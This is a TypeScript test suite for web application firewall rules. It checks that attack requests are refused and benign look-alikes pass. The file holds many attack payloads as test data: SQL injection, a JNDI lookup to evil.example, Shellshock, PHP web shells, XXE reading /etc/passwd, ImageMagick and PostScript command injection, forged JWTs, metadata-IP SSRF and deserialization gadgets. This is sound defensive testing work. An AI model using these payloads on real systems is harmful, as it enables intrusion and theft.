import assert from 'node:assert/strict'
import { test } from 'node:test'
import { compileRules } from './compile.ts'
import { type CorpusCase, type CorpusPart, loadCorpus } from './test-corpus.ts'
import { countClasses } from './test-corpus-table.ts'
import { baseRuleSources, type Sent, send } from './test-requests.ts'

const rules = compileRules(baseRuleSources(), { paranoia: 1 })

const describe = ({ placement, text }: CorpusCase): string => `${placement}: ${text}`

for (const part of ['attacks', 'held-out/attacks'] as const) {
  test(`at least 95 % of the attacks of every class are refused: ${part}`, () => {
    for (const { class: name, requests, wrong } of countClasses(rules, part))
      assert.ok(
        wrong.length <= requests * 0.05,
        `${name}: ${wrong.length} of ${requests} pass:\n${wrong.map(describe).join('\n')}`,
      )
  })
}

for (const part of ['benign', 'held-out/benign'] as const) {
  test(`at most 0.2 % of what only looks like an attack is refused: ${part}`, () => {
    const counts = countClasses(rules, part)
    const requests = counts.reduce((sum, count) => sum + count.requests, 0)
    const wrong = counts.flatMap((count) => count.wrong)
    const why = wrong.map((one) => `${send(rules, one.sent).matches.map(({ ruleId }) => ruleId)} ${describe(one)}`)
    assert.ok(wrong.length <= requests * 0.002, `${wrong.length} of ${requests} refused:\n${why.join('\n')}`)
  })
}

test('the corpus is as large as it is said to be', () => {
  const size = (part: CorpusPart): number => new Set(loadCorpus(part).map(({ class: name, text }) => `${name} ${text}`)).size
  assert.ok(size('attacks') >= 2_000, `${size('attacks')} attacks`)
  assert.ok(size('benign') >= 5_000, `${size('benign')} honest texts`)
})

const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'

test('attacks in cookies and headers are refused', () => {
  for (const [header, value] of [
    ['Cookie', "sid=1; id=1' OR 1=1--"],
    ['Cookie', `x=${LOOKUP}`],
    ['User-Agent', 'sqlmap/1.7'],
    ['User-Agent', '() { :; }; /bin/id'],
    ['X-Api-Version', LOOKUP],
    ['Referer', "https://a.example/' UNION SELECT 1,2--"],
  ] as const)
    assert.equal(send(rules, { headers: [[header, value]] }).blocked, true, `${header}: ${value}`)
})

test('uploads of programs are refused, of pictures not', () => {
  const upload = (name: string): boolean =>
    send(rules, {
      headers: [['Content-Type', 'multipart/form-data; boundary=B']],
      body: `--B\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--B--\r\n`,
    }).blocked
  for (const name of ['shell.php', 'shell.php5', 'x.jsp', 'x.PHTML', '../../x.sh', '.htaccess'])
    assert.equal(upload(name), true, name)
  for (const name of ['cat.png', 'my holiday (2).jpeg', 'report.final.pdf', "Ann's notes.txt"])
    assert.equal(upload(name), false, name)
})

const inForm = (name: string, type: string, content: string): Sent => ({
  headers: [['Content-Type', 'multipart/form-data; boundary=B']],
  body: Uint8Array.from(
    `--B\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--B--\r\n`,
    (char) => char.charCodeAt(0),
  ),
})
const PHP = '<?php system($_GET["c"]); ?>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'

test('what files hold is looked at, in forms and as whole bodies: programs, entities, scripts, paths', () => {
  for (const [name, type, content] of [
    ['a.png', 'image/png', `\x89PNG\r\n${PHP}`],
    ['a.gif', 'image/gif', 'GIF89a<?= `id` ?>'],
    ['a.txt', 'text/plain', PHP],
    ['b.cer', 'application/x-x509-ca-cert', '<%execute(request("z"))%>'],
    ['a.svg', 'image/svg+xml', `${SVG}<script>alert(1)</script></svg>`],
    ['a.svg', 'image/svg+xml', `<?xml version="1.0"?>\n${SVG}<rect onload="alert(1)"/></svg>`],
    ['a.svg', 'image/svg+xml', `${SVG}<a href="javascript:alert(1)"/></svg>`],
    ['a.gpx', 'application/gpx+xml', '<?xml version="1.0"?><!DOCTYPE g [<!ENTITY k SYSTEM "file:///etc/passwd">]><gpx>&k;</gpx>'],
    ['a.mvg', 'image/x-mvg', 'push graphic-context\nfill \'url(https://a.example/x.jpg"|ls "-la)\'\npop graphic-context\n'],
    ['a.eps', 'application/postscript', '%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops'],
    ['a.zip', 'application/zip', 'PK\x03\x04\x14\x00../../../../shell.php'],
    ['a.csv', 'text/csv', 'name,note\nAnn,"=cmd|\'/C calc\'!A0"\n'],
    [`${LOOKUP}.pdf`, 'application/pdf', '%PDF-1.4'],
    ['.user.ini', 'text/plain', 'auto_prepend_file=logo.gif'],
    ['pic.php::$DATA', 'image/png', 'x'],
    ['a.asp;.jpg', 'image/jpeg', 'x'],
  ] as const)
    assert.equal(send(rules, inForm(name, type, content)).blocked, true, `${name} ${content}`)
  for (const [type, content] of [
    ['image/png', `\x89PNG\r\n${PHP}`],
    ['application/octet-stream', '\xac\xed\x00\x05sr\x00\x11java.util.HashMap'],
    ['application/octet-stream', '\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94'],
  ] as const) {
    const body = Uint8Array.from(content, (char) => char.charCodeAt(0))
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, content)
  }
  for (const [name, type, content] of [
    ['a.png', 'image/png', '\x89PNG\r\n<?xpacket begin=""?><x:xmpmeta/><?xpacket end="w"?>'],
    [
      'a.svg',
      'image/svg+xml',
      `<?xml version="1.0"?>\n<!-- Generator -->\n${SVG}<path d="M0 0"/><style>.a{fill:red}</style></svg>`,
    ],
    [
      'a.svg',
      'image/svg+xml',
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]>${SVG}</svg>`,
    ],
    ['site.zip', 'application/zip', 'PK\x03\x04\x14\x00wp-content/index.php<?php // Silence is golden.'],
    ['notes.md', 'text/markdown', '# Security\nNever write `eval($code)`; `<?php echo 1; ?>` is fine.'],
    ['prices.csv', 'text/csv', 'sku,price\n1,=A1*2\n2,-3\n'],
    ['server.cer', 'application/pkix-cert', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n'],
    ['salt & cat.png', 'image/png', '\x89PNG'],
    ['page.html', 'text/html', '<!DOCTYPE html><html><body><script src="app.js"></script></body></html>'],
  ] as const) {
    const { blocked, matches } = send(rules, inForm(name, type, content))
    assert.equal(blocked, false, `${name} ${content} ${matches.map(({ ruleId }) => ruleId)}`)
  }
})

test('what is excepted beside an attack does not take the attack along: no decoy behind it, or before', () => {
  const base64 = (text: string): string => encodeURIComponent(Buffer.from(text).toString('base64'))
  for (const [attack, decoy] of [
    ['<script>alert(1)</script>', '<pre><script>alert(1)</script></pre>'],
    ["1' or pg_sleep(9)--", 'information_schema.tables is the view of all tables that a user may see'],
  ] as const) {
    const [first, second] = [encodeURIComponent(attack), encodeURIComponent(decoy)]
    for (const target of [`/?a=${first}`, `/?a=${first}&b=${second}`, `/?b=${second}&a=${first}`])
      assert.equal(send(rules, { target }).blocked, true, target)
  }
  const [hidden, fine] = [base64("1' UNION SELECT password FROM users--"), base64('hello world, all is fine here')]
  for (const target of [`/?a=${hidden}&b=${fine}`, `/?b=${fine}&a=${hidden}`])
    assert.equal(send(rules, { target }).blocked, true, target)
  const many = Array.from({ length: 900 }, (_, at) => `x${at}=${fine}`).join('&')
  assert.equal(
    send(rules, { headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `${many}&a=${hidden}` }).blocked,
    true,
  )
})

test('tokens and names in Base64 are read as what they say', () => {
  const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
  const token = (header: object, payload: object = { sub: 'ann' }): string =>
    `Bearer ${part({ typ: 'JWT', ...header })}.${part(payload)}.c2lnbmF0dXJl`
  for (const value of [
    token({ alg: 'none' }),
    token({ alg: 'nOnE' }),
    token({ alg: 'HS256', kid: '../../dev/null' }),
    token({ alg: 'HS256', kid: "x' UNION SELECT 'k'-- " }),
    token({ alg: 'RS256', jku: 'http://169.254.169.254/keys' }),
    token({ alg: 'HS256' }, { sub: LOOKUP }),
    token({ alg: 'HS256' }, { sub: "admin' OR '1'='1" }),
    `${token({ alg: 'ES256' }).replace(/[^.]*$/, '')}MAYCAQACAQA`,
    `Basic ${Buffer.from(`${LOOKUP}:x`).toString('base64')}`,
    `Basic ${Buffer.from('*)(uid=*))(|(uid=*:x').toString('base64')}`,
  ])
    assert.equal(send(rules, { headers: [['Authorization', value]] }).blocked, true, value)
  for (const value of [
    token({ alg: 'RS256', kid: 'https://vault.example/keys/signing/1', jku: 'https://id.example/token_keys' }),
    token({ alg: 'ES256', kid: '2026-11' }, { name: "Conan O'Brien", groups: ['staff'], url: 'https://a.example/?a=1&b=2' }),
    `Basic ${Buffer.from("o'brien:pa'ss;wo#rd|x)(").toString('base64')}`,
    'Basic =',
    'Bearer eyJ',
  ])
    assert.equal(send(rules, { headers: [['Authorization', value]] }).blocked, false, value)
})

test('a body that is not what its type says is refused', () => {
  for (const [type, body] of [
    ['application/json', '{"a":'],
    ['multipart/form-data', 'x=1'],
    ['multipart/form-data; boundary=a; boundary=b', '--a\r\n'],
  ] as const)
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, type)
})

test('arguments with operators and prototypes in their names are refused', () => {
  for (const target of ['/login?user[$ne]=1', '/x?__proto__[admin]=1', '/x?constructor[prototype][a]=1', '/x?a.$where=1'])
    assert.equal(send(rules, { target }).blocked, true, target)
})

const SQL = "1' UNION SELECT password FROM users-- "

test('an attack is found in whatever body it hides', () => {
  const json = JSON.stringify({ q: SQL })
  const part = (head: string): string => `--B\r\nContent-Disposition: form-data; ${head}\r\n\r\n${SQL}\r\n--B--\r\n`
  for (const [type, body] of [
    ['text/plain', SQL],
    ['text/xml', `<a><b>${SQL}</b></a>`],
    ['application/xml', `<a b="${SQL}"/>`],
    ['image/png', json],
    ['application/octet-stream', json],
    ['text/plain', `${json} x`],
    ['application/x-www-form-urlencoded', '{"q":"; cat /etc/passwd"}'],
    ['application/json', `\ufeff${json}`],
    ['application/json; charset=utf-7', '{}'],
    ['application/json; charset = utf-16', '{}'],
    ['multipart/form-data; boundary=B', part('x="; filename=f"; name="q"')],
    ['multipart/form-data; boundary=B', part('name="q"; filename=""')],
    ['multipart/form-data; boundary=B', `x\n--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQL}\r\n--B--`],
    ["multipart/form-data; boundary=A; boundary*=utf-8''B", part('name="q"')],
  ] as const)
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, `${type}: ${body}`)
  for (const coding of ['gzip', 'deflate', 'br', 'identity, gzip'])
    assert.equal(send(rules, { headers: [['Content-Encoding', coding]], body: 'x' }).blocked, true, coding)
})

test('padding hides nothing', () => {
  const form = (text: string): boolean =>
    send(rules, { headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `q=${encodeURIComponent(text)}` })
      .blocked
  assert.equal(form(`${'A'.repeat(16_400)}' UNION SELECT password FROM users-- `), true)
  assert.equal(form(`${'A'.repeat(40_000)}<svg onload=alert(1)>`), true)
  assert.equal(form(`${'<b>'.repeat(1_200)}<svg onload=alert(1)>`), true)
  assert.equal(form(`<a ${'x=1 '.repeat(1_200)} onclick=alert(1)>`), true)
})

test('honest bodies pass: pictures, long lists of numbers, blank and marked JSON, transfer encodings that say nothing', () => {
  let state = 1
  const bytes = Uint8Array.from({ length: 100_000 }, () => {
    state = (Math.imul(state ^ (state >>> 15), 0x85ebca6b) + 0x9e3779b9) | 0
    return state >>> 13
  })
  const points = JSON.stringify({ points: Array.from({ length: 2_000 }, (_, x) => ({ x, y: -x / 3, on: true, z: null })) })
  for (const [type, body] of [
    ['image/jpeg', bytes],
    ['application/octet-stream', bytes],
    ['application/json', points],
    ['application/json', ''],
    ['application/json', ' \n'],
    ['application/json; charset=UTF-8', '\ufeff{"a":"b"}'],
    ['application/x-www-form-urlencoded; charset="iso-8859-1"', 'a=b'],
    [
      'multipart/form-data; boundary=B',
      '--B\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: binary\r\n\r\nx\r\n--B--',
    ],
  ] as const)
    assert.deepEqual(send(rules, { headers: [['Content-Type', type]], body }).matches, [], type)
})
